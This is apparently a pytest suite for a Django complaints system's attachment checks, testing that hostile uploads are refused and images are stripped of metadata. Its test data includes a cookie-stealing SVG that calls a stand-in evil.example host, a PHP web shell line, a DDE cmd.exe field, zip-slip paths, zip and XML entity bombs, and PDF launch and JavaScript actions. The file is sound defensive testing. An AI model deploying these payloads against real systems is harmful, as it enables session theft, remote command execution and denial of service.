"""Safe attachments (QUALITY.md "uploads"): hostile files refused, the four allowed types
accepted, images stripped of everything but pixels, files served only as downloads after the
permission check.

Every file is made here, from bytes, Pillow, pypdf or zipfile: no binary fixtures.
"""

import functools
import random
import struct
import zipfile
import zlib
from io import BytesIO
from pathlib import Path

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.urls import reverse
from django.utils import translation
from django.utils.datastructures import MultiValueDict
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from complaints import services
from complaints.models import Attachment
from complaints.uploads import ALLOWED, CleanFile, MultipleFileField, clean_upload, display_name
from tests.factories import ComplaintFactory, DepartmentFactory, UserFactory

MB = 1024 * 1024


@pytest.fixture(autouse=True)
def in_english():
    """The messages are checked in their English source text."""
    with translation.override("en"):
        yield


# ---------------------------------------------------------------------------
# Making files
# ---------------------------------------------------------------------------
def noise(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """Random pixels, so the encoded image has real data to cut short."""
    rng = random.Random(width * height)
    channels = len(mode)
    return Image.frombytes(mode, (width, height), rng.randbytes(width * height * channels))


def image_bytes(pillow_format: str, image: Image.Image | None = None, **options) -> bytes:
    out = BytesIO()
    (image or noise(64, 48)).save(out, format=pillow_format, **options)
    return out.getvalue()


def jpeg(**options) -> bytes:
    return image_bytes("JPEG", **options)


def png(**options) -> bytes:
    return image_bytes("PNG", **options)


def png_with_size(width: int, height: int) -> bytes:
    """A valid PNG whose header claims another size (its IHDR checksum fixed)."""
    data = bytearray(png(image=Image.new("L", (1, 1))))
    header = b"IHDR" + struct.pack(">II", width, height) + bytes(data[24:29])
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(header))
    return bytes(data)


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {name("/S"): name(kind), **{name(f"/{k}"): v for k, v in entries.items()}}
    )


def pdf(change=None) -> bytes:
    """A one-page PDF written by pypdf; ``change(writer)`` adds what a test needs."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change:
        change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def raw_pdf(*objects: bytes) -> bytes:
    """A hand-written PDF with a correct cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


PAGES = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
)


def pdf_with_compressed_object(hidden: bytes) -> bytes:
    """The catalog opens object 5, which sits compressed in an object stream (PDF 1.5), so
    its names are not in the raw bytes: only a parser sees it."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def put(number: int, dictionary: bytes, stream: bytes | None = None) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\n" % (number, dictionary))
        if stream is not None:
            out.extend(b"stream\n" + stream + b"\nendstream\n")
        out.extend(b"endobj\n")

    put(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")
    put(2, PAGES[0])
    put(3, PAGES[1])
    header = b"5 0 "
    packed = zlib.compress(header + hidden)
    put(4, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>"
        % (len(header), len(packed)), packed)  # fmt: skip
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
    table = zlib.compress(b"".join(rows))
    put(6, b"<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>"
        % len(table), table)  # fmt: skip
    out.extend(b"startxref\n%d\n%%%%EOF\n" % offsets[6])
    return bytes(out)


def with_javascript_name_tree(writer: PdfWriter) -> None:
    script = action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    tree = DictionaryObject({name("/Names"): ArrayObject([TextStringObject("x"), script])})
    writer._root_object[name("/Names")] = DictionaryObject({name("/JavaScript"): tree})


def with_open_action(value):
    return lambda w: w._root_object.__setitem__(name("/OpenAction"), value)


def with_page_actions(writer: PdfWriter) -> None:
    page = writer.pages[0]
    page[name("/AA")] = DictionaryObject(
        {name("/O"): action("/JavaScript", JS=TextStringObject("app.alert(1)"))}
    )


def with_xfa(writer: PdfWriter) -> None:
    writer._root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="geheim", owner_password="geheimer", algorithm="RC4-128")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}'
    "</Types>"
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="' + REL + '/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<w:document xmlns:w="{W}"><w:body>{{body}}</w:body></w:document>'
)
TEXT = "<w:p><w:r><w:t>Niemand belde terug.</w:t></w:r></w:p>"


def relationships(*entries: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(entries)
        + "</Relationships>"
    )


def docx(
    *,
    main: str = DOCX_MAIN,
    extra_types: str = "",
    body: str = TEXT,
    content_types: str | None = None,
    members: dict | None = None,
) -> bytes:
    """A minimal Word document: the three parts Word needs, plus ``members``."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            content_types or CONTENT_TYPES.format(main=main, extra=extra_types),
        )
        archive.writestr("_rels/.rels", PACKAGE_RELS)
        archive.writestr("word/document.xml", DOCUMENT.format(body=body))
        for member, data in (members or {}).items():
            archive.writestr(member, data)
    return out.getvalue()


def docx_with_member_name(bad: bytes) -> bytes:
    """zipfile will not write some names (a NUL): write a placeholder of the same length in
    the local and the central header, then put the bad name in its place."""
    placeholder = b"word/" + b"x" * (len(bad) - 5)
    data = docx(members={placeholder.decode(): b"<x/>"})
    assert data.count(placeholder) == 2
    return data.replace(placeholder, bad)


def docx_zip_bomb() -> bytes:
    out = BytesIO(docx())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/image1.png", "w") as member,
    ):
        for _ in range(200):
            member.write(bytes(MB))  # 200 MB of zeros, about 200 KB packed
    return out.getvalue()


def plain_zip(**members: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return out.getvalue()


def xlsx() -> bytes:
    return plain_zip(
        **{
            "[Content_Types].xml": CONTENT_TYPES.replace("/word/document.xml", "/xl/workbook.xml")
            .format(main=XLSX_MAIN, extra="")
            .encode(),
            "_rels/.rels": PACKAGE_RELS.replace("word/document.xml", "xl/workbook.xml").encode(),
            "xl/workbook.xml": b"<workbook/>",
        }
    )


def docx_starting_with_a_pdf() -> bytes:
    """A Word file whose first part is a stored PDF: a PDF reader finds %PDF- near the start."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.pdf", pdf())
        with zipfile.ZipFile(BytesIO(docx())) as word:
            for member in word.infolist():
                archive.writestr(member.filename, word.read(member))
    return out.getvalue()


def gif() -> bytes:
    return image_bytes("GIF", noise(16, 16).convert("P"))


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script></svg>"
)
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"

# (case, file name, what the message calls it, the bytes, the refusal code)
HOSTILE = [
    ("html as pdf", "brief.pdf", None, lambda: HTML, "type"),
    ("html as jpg", "foto.jpg", None, lambda: HTML, "type"),
    ("html as png", "scan.png", None, lambda: HTML, "type"),
    ("html as html", "pagina.html", None, lambda: HTML, "type"),
    ("svg with script as png", "logo.png", None, lambda: SVG, "type"),
    ("svg with script as jpg", "logo.jpg", None, lambda: SVG, "type"),
    ("svg with script as pdf", "logo.pdf", None, lambda: SVG, "type"),
    ("svg as svg", "logo.svg", None, lambda: SVG, "type"),
    ("php as jpg", "shell.jpg", None, lambda: PHP, "type"),
    ("javascript as png", "script.png", None, lambda: b"alert(document.cookie)", "type"),
    ("gif", "animatie.gif", None, gif, "type"),
    ("gif as png", "animatie.png", None, gif, "type"),
    ("exe", "setup.exe", None, lambda: EXE, "type"),
    ("exe as pdf", "factuur.pdf", None, lambda: EXE, "type"),
    ("double extension", "foto.jpeg.exe", None, jpeg, "type"),
    ("right-to-left override", "factuur\u202efdp.exe", "factuurfdp.exe", lambda: EXE, "type"),
    ("text", "notities.txt", None, lambda: b"Gewoon tekst.", "type"),
    ("text as pdf", "notities.pdf", None, lambda: b"Gewoon tekst.", "type"),
    ("rtf as docx", "brief.docx", None, lambda: rb"{\rtf1\ansi{\object\objemb}}", "type"),
    (
        "old word as docx",
        "brief.docx",
        None,
        lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504),
        "type",
    ),
    ("plain zip as docx", "bijlagen.docx", None, lambda: plain_zip(**{"a.txt": b"x"}), "type"),
    ("xlsx as docx", "overzicht.docx", None, xlsx, "type"),
    (
        "docm",
        "brief.docx",
        None,
        lambda: docx(main=DOCM_MAIN, members={"word/vbaProject.bin": b"\xcc" * 64}),
        "macro",
    ),
    (
        "macro part in a docx",
        "brief.docx",
        None,
        lambda: docx(members={"word/vbaProject.bin": b"\xcc" * 64}),
        "macro",
    ),
    (
        "activex in a docx",
        "brief.docx",
        None,
        lambda: docx(members={"word/activeX/activeX1.xml": b"<x/>"}),
        "macro",
    ),
    (
        "remote template",
        "brief.docx",
        None,
        lambda: docx(
            members={
                "word/_rels/settings.xml.rels": relationships(
                    f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
                    'Target="https://evil.example/sjabloon.dotm" TargetMode="External"/>'
                )
            }
        ),
        "external",
    ),
    (
        "remote picture",
        "brief.docx",
        None,
        lambda: docx(
            members={
                "word/_rels/document.xml.rels": relationships(
                    f'<Relationship Id="rId9" Type="{REL}/image" '
                    'Target="\\\\evil.example\\share\\pixel.png" TargetMode="External"/>'
                )
            }
        ),
        "external",
    ),
    (
        "dde field",
        "brief.docx",
        None,
        lambda: docx(
            body="<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
            '"/c calc"</w:instrText></w:r></w:p>'
        ),
        "dde",
    ),
    (
        "xml entity bomb",
        "brief.docx",
        None,
        lambda: docx(
            content_types='<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">'
            '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><Types>&b;</Types>'
        ),
        "unsafe_xml",
    ),
    (
        "member going up",
        "brief.docx",
        None,
        lambda: docx(members={"../../etc/cron.d/evil": b"* * * * * root sh"}),
        "unsafe_member",
    ),
    (
        "absolute member",
        "brief.docx",
        None,
        lambda: docx(members={"/etc/passwd": b"root::0:0"}),
        "unsafe_member",
    ),
    (
        "backslash member",
        "brief.docx",
        None,
        lambda: docx(members={"word\\..\\..\\evil.bat": b"calc"}),
        "unsafe_member",
    ),
    (
        "nul in member",
        "brief.docx",
        None,
        lambda: docx_with_member_name(b"word/a.xml\x00.exe"),
        "unsafe_member",
    ),
    ("zip bomb", "brief.docx", None, docx_zip_bomb, "zip_bomb"),
    ("pdf with javascript", "brief.pdf", None, lambda: pdf(with_javascript_name_tree), "active"),
    (
        "pdf opening with javascript",
        "brief.pdf",
        None,
        lambda: pdf(with_open_action(action("/JavaScript", JS=TextStringObject("app.alert(1)")))),
        "active",
    ),
    (
        "pdf launching a program",
        "brief.pdf",
        None,
        lambda: pdf(with_open_action(action("/Launch", F=TextStringObject("cmd.exe")))),
        "active",
    ),
    (
        "pdf with an embedded file",
        "brief.pdf",
        None,
        lambda: pdf(lambda w: w.add_attachment("factuur.exe", EXE)),
        "active",
    ),
    ("pdf with page actions", "brief.pdf", None, lambda: pdf(with_page_actions), "active"),
    ("pdf with xfa form", "brief.pdf", None, lambda: pdf(with_xfa), "active"),
    (
        "pdf with escaped name",
        "brief.pdf",
        None,
        lambda: raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGES,
            b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
        ),
        "active",
    ),
    (
        "pdf with javascript outside the tree",
        "brief.pdf",
        None,
        lambda: raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES, b"<< /S /JavaScript /JS (app.alert(1)) >>"
        ),
        "active",
    ),
    (
        "pdf with javascript in a compressed object",
        "brief.pdf",
        None,
        lambda: pdf_with_compressed_object(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "active",
    ),
    ("encrypted pdf", "brief.pdf", None, encrypted_pdf, "encrypted"),
    (
        "pdf without pages",
        "brief.pdf",
        None,
        lambda: raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"
        ),
        "damaged",
    ),
    ("broken pdf", "brief.pdf", None, lambda: b"%PDF-1.4 test", "damaged"),
    ("html then pdf", "brief.pdf", None, lambda: HTML + pdf(), "type"),
    (
        "pdf with html in its head",
        "brief.pdf",
        None,
        lambda: pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1),
        "polyglot",
    ),
    (
        "pdf that is also a zip",
        "brief.pdf",
        None,
        lambda: pdf() + plain_zip(**{"index.html": HTML}),
        "polyglot",
    ),
    ("zip that is also a pdf", "brief.docx", None, docx_starting_with_a_pdf, "polyglot"),
    ("png named pdf", "brief.pdf", None, png, "mismatch"),
    ("jpg named png", "scan.png", None, jpeg, "mismatch"),
    ("pdf named docx", "brief.docx", None, pdf, "mismatch"),
    ("docx named pdf", "brief.pdf", None, docx, "mismatch"),
    ("truncated png", "scan.png", None, lambda: png()[:-200], "damaged"),
    ("truncated jpg", "foto.jpg", None, lambda: jpeg()[: len(jpeg()) // 2], "damaged"),
    (
        "png bomb, huge header",
        "scan.png",
        None,
        lambda: png_with_size(100_000, 100_000),
        "image_too_large",
    ),
    (
        "png bomb, 64 megapixels",
        "scan.png",
        None,
        lambda: png(image=Image.new("1", (8000, 8000))),
        "image_too_large",
    ),
    ("empty", "leeg.pdf", None, lambda: b"", "empty"),
    (
        "10 MB and 1 byte",
        "groot.pdf",
        None,
        lambda: b"%PDF-1.7\n" + bytes(10 * MB + 1 - 9),
        "too_big",
    ),
    ("nul in the name", "foto.jpg\x00.html", "foto.jpg.html", lambda: HTML, "type"),
    ("path in the name", "../../var/www/html/shell.php", "shell.php", lambda: PHP, "type"),
    (
        "windows path in the name",
        "..\\..\\Windows\\System32\\evil.exe",
        "evil.exe",
        lambda: EXE,
        "type",
    ),
]


@functools.cache
def hostile_bytes(case: str) -> bytes:
    make = next(entry[3] for entry in HOSTILE if entry[0] == case)
    return make()


def refusal(filename: str, content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as refused:
        clean_upload(SimpleUploadedFile(filename, content))
    return refused.value


@pytest.mark.parametrize(
    ("filename", "shown", "case", "code"),
    [pytest.param(f, s or f, c, code, id=c) for c, f, s, _, code in HOSTILE],
)
def test_a_hostile_file_is_refused_with_a_message_that_names_it(filename, shown, case, code):
    error = refusal(filename, hostile_bytes(case))
    assert error.code == code
    message = error.messages[0]
    assert f"“{shown}”" in message
    assert "\x00" not in message


def test_at_least_25_hostile_files_are_refused_and_none_accepted():
    accepted = []
    for case, filename, _, _, _ in HOSTILE:
        try:
            clean_upload(SimpleUploadedFile(filename, hostile_bytes(case)))
        except ValidationError:
            continue
        accepted.append(case)
    refused = len(HOSTILE) - len(accepted)
    print(f"\nQUALITY uploads: {refused} hostile files refused, {len(accepted)} accepted")
    assert accepted == []
    assert refused >= 25


def test_the_messages_say_the_allowed_types_and_the_limit():
    assert refusal("pagina.html", HTML).messages == [
        "“pagina.html” is not a PDF, JPG, PNG or Word (docx) file. "
        "You can add only these types, of at most 10 MB each."
    ]
    assert "at most 10 MB" in refusal("groot.pdf", bytes(10 * MB + 1)).messages[0]
    assert refusal("brief.pdf", png()).messages == [
        "“brief.pdf” is a PNG file, but its name does not end in .png. "
        "Give the file the right name, or choose another file."
    ]


def test_a_file_claiming_to_be_too_large_is_refused_before_it_is_read():
    class Unreadable(BytesIO):
        def read(self, *args):
            raise AssertionError("read although the size was over the limit")

    upload = UploadedFile(Unreadable(), name="groot.pdf", size=10 * MB + 1)
    with pytest.raises(ValidationError) as refused:
        clean_upload(upload)
    assert refused.value.code == "too_big"


# ---------------------------------------------------------------------------
# What is accepted, and what is left of it
# ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("filename", "make", "extension"),
    [
        ("brief.pdf", pdf, "pdf"),
        ("foto.jpg", jpeg, "jpg"),
        ("Foto.JPEG", jpeg, "jpg"),
        ("scan.png", png, "png"),
        ("brief.docx", docx, "docx"),
    ],
)
def test_the_allowed_types_are_accepted(filename, make, extension):
    clean = clean_upload(SimpleUploadedFile(filename, make(), content_type="text/html"))
    assert clean.name == filename
    assert clean.extension == extension
    assert clean.content_type == ALLOWED[extension]  # from the content, not the browser
    assert clean.size == len(clean.content) > 0


def test_pdf_and_docx_are_stored_unchanged():
    for filename, content in (("brief.pdf", pdf()), ("brief.docx", docx())):
        assert clean_upload(SimpleUploadedFile(filename, content)).content == content


def test_ordinary_pdf_and_word_features_are_not_refused():
    """A PDF that opens on its first page, a Word file with a web link in it."""
    opens_on_page = pdf(
        lambda w: w._root_object.__setitem__(
            name("/OpenAction"), ArrayObject([w.pages[0].indirect_reference, name("/Fit")])
        )
    )
    assert clean_upload(SimpleUploadedFile("brief.pdf", opens_on_page)).extension == "pdf"
    goes_to_page = pdf_with_compressed_object(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert clean_upload(SimpleUploadedFile("brief.pdf", goes_to_page)).extension == "pdf"
    with_link = docx(
        members={
            "word/_rels/document.xml.rels": relationships(
                f'<Relationship Id="rId5" Type="{REL}/hyperlink" '
                'Target="https://www.nationaleombudsman.nl/" TargetMode="External"/>'
            ),
            "word/printerSettings/printerSettings1.bin": b"\x00" * 64,
        }
    )
    assert clean_upload(SimpleUploadedFile("brief.docx", with_link)).extension == "docx"


GPS = ExifTags.IFD.GPSInfo


def photo_with_location() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Telefoon"
    exif[ExifTags.Base.Orientation] = 6  # taken sideways: show turned 90 degrees clockwise
    exif.get_ifd(GPS).update(
        {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (52.0, 5.0, 30.0),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (5.0, 7.0, 15.0),
        }
    )
    return jpeg(image=noise(40, 20), exif=exif, comment=b"secret comment")


def test_a_photo_loses_its_location_and_metadata_but_keeps_its_orientation():
    original = photo_with_location()
    with Image.open(BytesIO(original)) as before:
        assert before.getexif().get_ifd(GPS)  # the test photo does carry a location

    clean = clean_upload(SimpleUploadedFile("foto.jpg", original))

    with Image.open(BytesIO(clean.content)) as after:
        assert after.format == "JPEG"
        assert after.size == (20, 40)  # turned upright
        assert not after.getexif()
        assert not after.getexif().get_ifd(GPS)
        assert "comment" not in after.info
    assert b"Exif" not in clean.content
    assert b"Telefoon" not in clean.content
    assert b"secret comment" not in clean.content


@pytest.mark.parametrize("pillow_format", ["PNG", "JPEG"])
def test_an_image_with_something_appended_is_accepted_without_it(pillow_format):
    """The image is fine; the PHP after its end and a PNG text chunk are gone."""
    info = PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    options = {"pnginfo": info} if pillow_format == "PNG" else {}
    original = image_bytes(pillow_format, noise(32, 32), **options) + PHP
    extension = {"PNG": "png", "JPEG": "jpg"}[pillow_format]

    clean = clean_upload(SimpleUploadedFile(f"foto.{extension}", original))

    assert PHP in original
    assert PHP not in clean.content
    assert b"<script>" not in clean.content
    assert b"tEXt" not in clean.content
    with Image.open(BytesIO(clean.content)) as after:
        assert after.format == pillow_format
        assert after.size == (32, 32)
    if pillow_format == "PNG":  # lossless: the same pixels
        with Image.open(BytesIO(clean.content)) as after:
            assert after.convert("RGB").tobytes() == noise(32, 32).tobytes()


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("C:\\Users\\jan\\Documents\\brief.pdf", "brief.pdf"),
        ("../../../etc/cron.d/brief.pdf", "brief.pdf"),
        ("/var/www/html/brief.pdf", "brief.pdf"),
        ("br\x00ief\r\n.pdf", "brief.pdf"),
        ("factuur\u202efdp.exe", "factuurfdp.exe"),
        ("cafe\u0301.pdf", "café.pdf"),  # NFD from a Mac becomes NFC
        ("  brief  van   klager.pdf  ", "brief van klager.pdf"),
        ("brief.pdf...", "brief.pdf"),
        (".pdf", "file.pdf"),
        ("", "file"),
        ("../..", "file"),
        (None, "file"),
    ],
)
def test_the_display_name_is_harmless(raw, shown):
    assert display_name(raw) == shown


def test_a_long_name_is_shortened_keeping_its_extension():
    shown = display_name("klacht " * 40 + ".docx")
    assert len(shown) <= 100
    assert shown.endswith(".docx")
    assert not shown.endswith(" .docx")


# ---------------------------------------------------------------------------
# The form field for several files
# ---------------------------------------------------------------------------
class FilesForm(forms.Form):
    files = MultipleFileField()


def submit(*uploads) -> FilesForm:
    return FilesForm(data={}, files=MultiValueDict({"files": list(uploads)}))


def good(number: int) -> SimpleUploadedFile:
    return SimpleUploadedFile(f"brief-{number}.pdf", pdf())


def test_the_field_offers_several_files_of_the_allowed_types():
    html = str(FilesForm()["files"])
    assert "multiple" in html
    assert 'accept=".pdf,.jpg,.jpeg,.png,.docx"' in html


def test_the_field_is_optional_and_gives_the_checked_files():
    empty = submit()
    assert empty.is_valid()
    assert empty.cleaned_data["files"] == []
    form = submit(good(1), SimpleUploadedFile("foto.jpg", jpeg()))
    assert form.is_valid()
    assert [type(f) for f in form.cleaned_data["files"]] == [CleanFile, CleanFile]
    assert [f.name for f in form.cleaned_data["files"]] == ["brief-1.pdf", "foto.jpg"]


def test_the_field_refuses_more_than_five_files():
    form = submit(*(good(number) for number in range(6)))
    assert not form.is_valid()
    assert form.errors["files"] == ["You can add at most 5 files. You chose 6."]
    assert submit(*(good(number) for number in range(5))).is_valid()


def test_the_field_reports_every_bad_file_among_good_ones():
    form = submit(
        good(1),
        SimpleUploadedFile("pagina.html", HTML),
        good(2),
        SimpleUploadedFile("scan.png", png()[:-200]),
    )
    assert not form.is_valid()
    errors = form.errors["files"]
    assert len(errors) == 2
    assert "“pagina.html”" in errors[0]
    assert "“scan.png”" in errors[1]


# ---------------------------------------------------------------------------
# Staff: adding a file and downloading it
# ---------------------------------------------------------------------------
@pytest.fixture
def handler(department):
    return UserFactory(handler=True, department=department)


@pytest.fixture
def case(department, handler):
    return ComplaintFactory(intake=True, department=department, handler=handler)


@pytest.fixture
def stored_files():
    yield
    for attachment in Attachment.objects.all():
        attachment.file.delete(save=False)


@pytest.mark.django_db
@pytest.mark.usefixtures("stored_files")
def test_staff_cannot_add_a_hostile_file(client, handler, case, settings):
    client.force_login(handler)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    url = reverse("complaints:add_attachment", args=[case.reference])
    response = client.post(url, {"file": SimpleUploadedFile("brief.pdf", HTML)})
    assert response.status_code == 400
    assert "“brief.pdf” is not a PDF, JPG, PNG or Word (docx) file." in response.content.decode()
    assert not case.attachments.exists()


@pytest.mark.django_db
@pytest.mark.usefixtures("stored_files")
def test_staff_upload_stores_the_cleaned_image_under_a_harmless_name(
    client, handler, case, settings
):
    client.force_login(handler)
    url = reverse("complaints:add_attachment", args=[case.reference])
    upload = SimpleUploadedFile("../../static/foto.jpg", photo_with_location() + PHP)
    assert client.post(url, {"file": upload}).status_code == 302

    attachment = case.attachments.get()
    assert attachment.original_name == "foto.jpg"
    assert attachment.content_type == "image/jpeg"
    stored = Path(attachment.file.path)
    assert stored.parent == Path(settings.PRIVATE_MEDIA_ROOT) / "attachments"
    assert stored.suffix == ".jpg"
    assert "foto" not in stored.name
    content = stored.read_bytes()
    assert attachment.size == len(content)
    assert PHP not in content
    assert b"Exif" not in content
    assert case.events.filter(kind="attachment").count() == 1


@pytest.mark.django_db
@pytest.mark.usefixtures("stored_files")
def test_a_download_is_an_attachment_the_browser_does_not_render(client, handler, case):
    attachment = services.attachment_add(
        complaint_id=case.pk,
        actor=handler,
        file=clean_upload(SimpleUploadedFile("brief van klager.pdf", pdf())),
    )
    client.force_login(handler)
    response = client.get(reverse("complaints:attachment", args=[case.reference, attachment.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="brief van klager.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["Cache-Control"] == "private, no-store"
    assert b"".join(response.streaming_content) == pdf()
    PdfReader(BytesIO(pdf()))  # what was served is the PDF that was added


@pytest.mark.django_db
@pytest.mark.usefixtures("stored_files")
def test_an_older_row_with_a_risky_type_is_served_as_plain_bytes(client, handler, case):
    attachment = services.attachment_add(
        complaint_id=case.pk,
        actor=handler,
        file=CleanFile(name="oud.html", content=HTML, content_type="text/html", extension="pdf"),
    )
    client.force_login(handler)
    response = client.get(reverse("complaints:attachment", args=[case.reference, attachment.pk]))
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")


@pytest.mark.django_db
@pytest.mark.usefixtures("stored_files")
def test_a_file_of_another_departments_case_does_not_exist(client, handler, case):
    attachment = services.attachment_add(
        complaint_id=case.pk,
        actor=handler,
        file=clean_upload(SimpleUploadedFile("brief.pdf", pdf())),
    )
    url = reverse("complaints:attachment", args=[case.reference, attachment.pk])
    client.force_login(UserFactory(handler=True, department=DepartmentFactory(code="bel")))
    assert client.get(url).status_code == 404
    other_case = ComplaintFactory(intake=True, department=DepartmentFactory(code="or"))
    client.force_login(handler)
    wrong_case = reverse("complaints:attachment", args=[other_case.reference, attachment.pk])
    assert client.get(wrong_case).status_code == 404
